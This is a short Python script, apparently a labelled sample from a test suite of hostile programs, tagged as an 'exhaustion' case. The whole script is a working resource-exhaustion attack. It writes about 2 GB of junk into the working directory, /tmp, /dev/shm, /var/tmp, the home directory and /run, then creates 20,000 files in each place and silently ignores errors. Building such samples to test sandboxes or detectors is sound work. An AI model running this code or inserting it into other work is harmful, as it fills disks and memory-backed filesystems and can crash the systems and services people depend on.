"""Fills every folder that can be written to, with one file and with many.

kind: exhaustion
honest: 0
exercise: double
"""

import os

block = b"\x01" * (1 << 20)
for place in (os.getcwd(), "/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~"), "/run"):
    try:
        with open(f"{place}/hostile-large", "wb", buffering=0) as out:
            for _ in range(2000):
                out.write(block)
    except OSError:
        pass
    try:
        for number in range(20_000):
            open(f"{place}/hostile-{number}", "wb").close()
    except OSError:
        pass
